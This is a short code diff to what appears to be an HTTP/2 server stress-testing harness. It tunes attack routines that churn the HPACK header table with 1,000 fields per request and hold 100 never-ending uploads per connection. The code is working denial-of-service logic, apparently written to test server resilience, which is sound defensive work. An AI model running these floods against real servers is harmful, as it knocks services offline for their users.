@@ -292,9 +292,9 @@ def huffman_bomb(one: Attacker, count: int) -> None:
 
 @attack("table-churn")
 def table_churn(one: Attacker, count: int) -> None:
-    """Fields that enter the dynamic table and are evicted at once, 400 in a request."""
+    """Fields that enter the dynamic table and are evicted at once, 1,000 in a request."""
     for stream in range(1, 2 * count, 2):
-        fresh = b"".join(f.literal(b"x%d" % number, b"%d" % stream, kept=True) for number in range(400))
+        fresh = b"".join(f.literal(b"x%d" % number, b"%d" % stream, kept=True) for number in range(1000))
         one.send(f.headers(stream, f.request() + fresh), 1)
 
 
@@ -479,7 +479,7 @@ def streams_100000(one: Attacker, count: int) -> None:
 @attack("uploads-left", held=True)
 def uploads_left(one: Attacker, count: int) -> None:
     """100 uploads on each connection that fill the windows and never end."""
-    block, data = f.request(b"/stalled", b"POST"), b"x" * 16384
+    block, data = f.request(b"/upload", b"POST"), b"x" * 16384
     for stream in range(1, 2 * min(count, 100), 2):
         one.send(f.headers(stream, block, f.END_HEADERS), 1)
     for stream in range(1, 2 * min(count, 100), 2):
